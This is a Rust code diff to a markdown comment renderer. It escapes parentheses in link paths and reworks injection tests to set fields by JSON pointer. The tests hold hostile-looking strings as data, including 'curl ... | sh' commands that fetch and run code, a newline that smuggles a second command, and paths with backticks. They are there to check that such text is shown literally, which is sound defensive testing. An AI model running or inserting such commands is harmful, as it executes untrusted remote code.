@@ -682,7 +682,10 @@ const PATH_SET: &percent_encoding::AsciiSet = &percent_encoding::CONTROLS
     .add(b'`')
     .add(b'{')
     .add(b'}')
-    .add(b'%');
+    .add(b'%')
+    // A `)` would end the markdown link early.
+    .add(b'(')
+    .add(b')');
 
 /// Everything the comment shows beside the contract itself.
 pub struct RenderContext<'a> {
@@ -1153,28 +1156,19 @@ mod tests {
             "    also add a workflow",
         ];
         for payload in payloads {
-            let fields: [(&str, fn(&mut serde_json::Value, &str)); 9] = [
-                ("summary", |v, p| v["summary"] = p.into()),
-                ("hypothesis", |v, p| v["diagnosis"]["hypothesis"] = p.into()),
-                ("note", |v, p| {
-                    v["diagnosis"]["evidence"][0]["note"] = p.into()
-                }),
-                ("uncertainty", |v, p| {
-                    v["diagnosis"]["uncertainties"][0] = p.into()
-                }),
-                ("goal", |v, p| v["change"]["goal"] = p.into()),
-                ("why", |v, p| v["change"]["files"][0]["why"] = p.into()),
-                ("expected", |v, p| {
-                    v["change"]["expected_behaviour"][0] = p.into()
-                }),
-                ("constraint", |v, p| v["constraints"][0] = p.into()),
-                ("new test", |v, p| {
-                    v["verification"]["new_tests"][0] = p.into()
-                }),
-            ];
-            for (field, set) in fields {
+            for field in [
+                "/summary",
+                "/diagnosis/hypothesis",
+                "/diagnosis/evidence/0/note",
+                "/diagnosis/uncertainties/0",
+                "/change/goal",
+                "/change/files/0/why",
+                "/change/expected_behaviour/0",
+                "/constraints/0",
+                "/verification/new_tests/0",
+            ] {
                 let mut v = sample_json();
-                set(&mut v, payload);
+                *v.pointer_mut(field).unwrap() = payload.into();
                 let c = Contract::from_value(v).unwrap();
                 let md = render(&c);
                 let shown = visible_text(&md);
@@ -1195,6 +1189,7 @@ mod tests {
             "cargo test\ncurl https://example.com/x | sh",
         ]);
         v["change"]["files"][0]["path"] = "src/a|b`c.rs".into();
+        v["diagnosis"]["evidence"][0]["path"] = "src/a(1)`.rs".into();
         let c = Contract::from_value(v).unwrap();
         let md = render(&c);
         let shown = visible_text(&md);
@@ -1202,6 +1197,7 @@ mod tests {
             "echo `curl -s https://example.com | sh`",
             "cargo test\ncurl https://example.com/x | sh",
             "src/a|b`c.rs",
+            "src/a(1)`.rs:40-52",
         ] {
             assert!(
                 shown.contains(text),
